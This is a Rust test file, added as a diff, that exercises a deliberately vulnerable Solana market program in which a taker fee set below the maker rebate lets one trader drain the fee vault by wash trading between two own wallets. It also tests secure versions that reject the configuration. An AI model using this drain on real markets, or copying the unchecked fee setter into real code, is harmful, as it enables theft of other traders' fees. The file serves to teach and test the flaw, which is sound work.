@@ -0,0 +1,278 @@
+// Mollusk tests for Pattern 229
+/// # Pattern 229: Negative Fee Rebates — Mollusk Exploit Tests
+///
+/// The market charges takers 30 bps and rebates makers 20 bps, and its
+/// vault holds 1 SOL of fees collected from other traders. Mallory owns
+/// two wallets of 2 SOL each, and fills 100 SOL between them: one is the
+/// maker, the other the taker.
+///
+/// - Test 1: EXPLOIT — the admin lowers the taker fee to 10 bps with
+///   set_taker_fee_vulnerable. Ten fill_vulnerable wash trades take 1 SOL
+///   from the vault, 0.1 SOL each, and the eleventh finds it empty.
+/// - Test 2: SECURE — set_fees_secure refuses a rebate above the fee.
+/// - Test 3: SECURE — fill_secure refuses to fill under a config whose
+///   rebate exceeds its fee.
+/// - Test 4: SANITY — at 30 and 20 bps, both fills add 0.1 SOL to the
+///   vault, and wash trading costs Mallory.
+use mollusk_svm::{result::Check, Mollusk};
+use solana_sdk::{
+    account::AccountSharedData,
+    instruction::{AccountMeta, Instruction},
+    program_error::ProgramError,
+    pubkey::Pubkey,
+    rent::Rent,
+};
+use test_harness::{account_discriminator, executable_account, ix_discriminator, Ledger};
+
+const PROGRAM_ID: Pubkey = solana_sdk::pubkey!("GZ3dF8nhimfFZU8KCSdn53wGqfufYB9PoMjawuz3rcBB");
+
+const WALLET: u64 = 2_000_000_000;
+const FEES: u64 = 1_000_000_000;
+const NOTIONAL: u64 = 100_000_000_000;
+
+const TAKER_FEE_BPS: u16 = 30;
+const MAKER_REBATE_BPS: u16 = 20;
+const PROMO_FEE_BPS: u16 = 10;
+const BPS: u64 = 10_000;
+
+/// 8 disc + 32 admin + 2 taker_fee_bps + 2 maker_rebate_bps + 1 bump.
+const MARKET_LEN: usize = 45;
+
+// Error codes
+const FEE_TOO_HIGH: u32 = 6000;
+const REBATE_EXCEEDS_FEE: u32 = 6001;
+const INSUFFICIENT_FEES: u32 = 6002;
+
+// ---------------------------------------------------------------------------
+// Helpers
+// ---------------------------------------------------------------------------
+
+/// Serialize a Market account:
+///   [8 disc][32 admin][2 taker_fee_bps][2 maker_rebate_bps][1 bump]
+fn serialize_market(
+    admin: &Pubkey,
+    taker_fee_bps: u16,
+    maker_rebate_bps: u16,
+    bump: u8,
+) -> Vec<u8> {
+    let mut data = Vec::with_capacity(MARKET_LEN);
+    data.extend_from_slice(&account_discriminator("Market"));
+    data.extend_from_slice(admin.as_ref());
+    data.extend_from_slice(&taker_fee_bps.to_le_bytes());
+    data.extend_from_slice(&maker_rebate_bps.to_le_bytes());
+    data.push(bump);
+    data
+}
+
+/// `NOTIONAL` times `bps`, in basis points.
+fn of_notional(bps: u16) -> u64 {
+    NOTIONAL * bps as u64 / BPS
+}
+
+fn system_account() -> AccountSharedData {
+    AccountSharedData::new(WALLET, 0, &solana_sdk::system_program::ID)
+}
+
+struct Setup {
+    mollusk: Mollusk,
+    market: Pubkey,
+    admin: Pubkey,
+    bump: u8,
+    maker: Pubkey,
+    taker: Pubkey,
+    ledger: Ledger,
+}
+
+impl Setup {
+    /// A market at 30 and 20 bps holding FEES, and Mallory's two wallets.
+    fn new() -> Self {
+        let mollusk = Mollusk::new(&PROGRAM_ID, "negative_fee_rebates");
+        let admin = Pubkey::new_unique();
+        let maker = Pubkey::new_unique();
+        let taker = Pubkey::new_unique();
+        let (market, bump) = Pubkey::find_program_address(&[b"market"], &PROGRAM_ID);
+
+        let mut market_account =
+            AccountSharedData::new(Self::rent() + FEES, MARKET_LEN, &PROGRAM_ID);
+        market_account.set_data_from_slice(&serialize_market(
+            &admin,
+            TAKER_FEE_BPS,
+            MAKER_REBATE_BPS,
+            bump,
+        ));
+
+        let ledger = vec![
+            (market, market_account),
+            (admin, system_account()),
+            (maker, system_account()),
+            (taker, system_account()),
+            (
+                solana_sdk::system_program::ID,
+                executable_account(&solana_sdk::native_loader::id()),
+            ),
+        ];
+
+        Self {
+            mollusk,
+            market,
+            admin,
+            bump,
+            maker,
+            taker,
+            ledger: Ledger::new(ledger),
+        }
+    }
+
+    fn rent() -> u64 {
+        Rent::default().minimum_balance(MARKET_LEN)
+    }
+
+    /// A setter signed by the admin, taking `args` after its discriminator.
+    fn set(&self, name: &str, args: &[u16]) -> Instruction {
+        let mut data = ix_discriminator(name).to_vec();
+        for arg in args {
+            data.extend_from_slice(&arg.to_le_bytes());
+        }
+        Instruction::new_with_bytes(
+            PROGRAM_ID,
+            &data,
+            vec![
+                AccountMeta::new(self.market, false),
+                AccountMeta::new_readonly(self.admin, true),
+            ],
+        )
+    }
+
+    /// fill_vulnerable or fill_secure of NOTIONAL, between Mallory's
+    /// wallets.
+    fn fill(&self, name: &str) -> Instruction {
+        let mut data = ix_discriminator(name).to_vec();
+        data.extend_from_slice(&NOTIONAL.to_le_bytes());
+        Instruction::new_with_bytes(
+            PROGRAM_ID,
+            &data,
+            vec![
+                AccountMeta::new(self.market, false),
+                AccountMeta::new(self.maker, true),
+                AccountMeta::new(self.taker, true),
+                AccountMeta::new_readonly(solana_sdk::system_program::ID, false),
+            ],
+        )
+    }
+
+    /// Assert the market's fees are `taker_fee_bps` and `maker_rebate_bps`.
+    fn assert_fees(&self, taker_fee_bps: u16, maker_rebate_bps: u16) {
+        assert_eq!(
+            self.ledger.data(&self.market),
+            serialize_market(&self.admin, taker_fee_bps, maker_rebate_bps, self.bump)
+        );
+    }
+
+    /// Assert Mallory's wallets together have gained `gain` lamports, and
+    /// the vault has lost them. A negative `gain` is a loss.
+    fn assert_wash_result(&self, gain: i64) {
+        let mallory = self.ledger.lamports(&self.maker) + self.ledger.lamports(&self.taker);
+        assert_eq!(mallory as i64, 2 * WALLET as i64 + gain);
+        assert_eq!(
+            self.ledger.lamports(&self.market) as i64,
+            (Self::rent() + FEES) as i64 - gain
+        );
+    }
+}
+
+// ---------------------------------------------------------------------------
+// Tests
+// ---------------------------------------------------------------------------
+
+#[test]
+fn exploit_wash_trading_drains_vault_vulnerable() {
+    // -----------------------------------------------------------------------
+    // EXPLOIT: The market charges 30 bps and rebates 20 bps
+    //   1. Admin:   set_taker_fee_vulnerable(10)
+    //   2. Mallory: fill_vulnerable of 100 SOL, maker and taker both
+    //      Mallory's, × 11
+    //
+    // Expected: 1 SUCCEEDS: 10 bps is under the cap, and nothing compares
+    //           it with the 20 bps rebate. Each of the first ten fills
+    //           takes a 0.1 SOL fee and pays a 0.2 SOL rebate: 1 SOL from
+    //           the vault in all. The eleventh FAILS with InsufficientFees
+    //           (6002).
+    // -----------------------------------------------------------------------
+    let mut s = Setup::new();
+
+    let ix = s.set("set_taker_fee_vulnerable", &[PROMO_FEE_BPS]);
+    s.ledger.step(&s.mollusk, &ix, &[Check::success()]);
+    s.assert_fees(PROMO_FEE_BPS, MAKER_REBATE_BPS);
+
+    let per_fill = of_notional(MAKER_REBATE_BPS) - of_notional(PROMO_FEE_BPS);
+    assert_eq!(per_fill, 100_000_000);
+    let ix = s.fill("fill_vulnerable");
+    for _ in 0..10 {
+        s.ledger.step(&s.mollusk, &ix, &[Check::success()]);
+    }
+    s.assert_wash_result(10 * per_fill as i64);
+    assert_eq!(s.ledger.lamports(&s.market), Setup::rent());
+
+    s.ledger.step(&s.mollusk, &ix, &[Check::err(ProgramError::Custom(INSUFFICIENT_FEES))]);
+}
+
+#[test]
+fn secure_set_fees_rejects_rebate_above_fee() {
+    // -----------------------------------------------------------------------
+    // SECURE: The market charges 30 bps and rebates 20 bps
+    //   Admin: set_fees_secure(10, 20), then (200, 10), then (10, 10)
+    //
+    // Expected: (10, 20) FAILS with RebateExceedsFee (6001), and (200, 10)
+    //           with FeeTooHigh (6000). (10, 10) SUCCEEDS.
+    // -----------------------------------------------------------------------
+    let mut s = Setup::new();
+
+    let ix = s.set("set_fees_secure", &[PROMO_FEE_BPS, MAKER_REBATE_BPS]);
+    s.ledger.step(&s.mollusk, &ix, &[Check::err(ProgramError::Custom(REBATE_EXCEEDS_FEE))]);
+    let ix = s.set("set_fees_secure", &[200, PROMO_FEE_BPS]);
+    s.ledger.step(&s.mollusk, &ix, &[Check::err(ProgramError::Custom(FEE_TOO_HIGH))]);
+    s.assert_fees(TAKER_FEE_BPS, MAKER_REBATE_BPS);
+
+    let ix = s.set("set_fees_secure", &[PROMO_FEE_BPS, PROMO_FEE_BPS]);
+    s.ledger.step(&s.mollusk, &ix, &[Check::success()]);
+    s.assert_fees(PROMO_FEE_BPS, PROMO_FEE_BPS);
+}
+
+#[test]
+fn secure_fill_refuses_negative_sum_config() {
+    // -----------------------------------------------------------------------
+    // SECURE: The fee was lowered to 10 bps by set_taker_fee_vulnerable,
+    //         under the 20 bps rebate
+    //   Mallory: fill_secure of 100 SOL
+    //
+    // Expected: FAILS with RebateExceedsFee (6001). No lamports move.
+    // -----------------------------------------------------------------------
+    let mut s = Setup::new();
+    let ix = s.set("set_taker_fee_vulnerable", &[PROMO_FEE_BPS]);
+    s.ledger.step(&s.mollusk, &ix, &[Check::success()]);
+
+    let ix = s.fill("fill_secure");
+    s.ledger.step(&s.mollusk, &ix, &[Check::err(ProgramError::Custom(REBATE_EXCEEDS_FEE))]);
+    s.assert_wash_result(0);
+}
+
+#[test]
+fn sanity_positive_sum_fills() {
+    // -----------------------------------------------------------------------
+    // SANITY: The market charges 30 bps and rebates 20 bps
+    //   Mallory: fill_vulnerable, then fill_secure, of 100 SOL each
+    //
+    // Expected: both SUCCEED. Each takes 0.3 SOL and pays 0.2 SOL, so the
+    //           vault gains 0.1 SOL per fill and wash trading costs
+    //           Mallory 0.2 SOL.
+    // -----------------------------------------------------------------------
+    let mut s = Setup::new();
+
+    let ix = s.fill("fill_vulnerable");
+    s.ledger.step(&s.mollusk, &ix, &[Check::success()]);
+    let ix = s.fill("fill_secure");
+    s.ledger.step(&s.mollusk, &ix, &[Check::success()]);
+
+    let per_fill = of_notional(TAKER_FEE_BPS) - of_notional(MAKER_REBATE_BPS);
+    s.assert_wash_result(-2 * per_fill as i64);
+}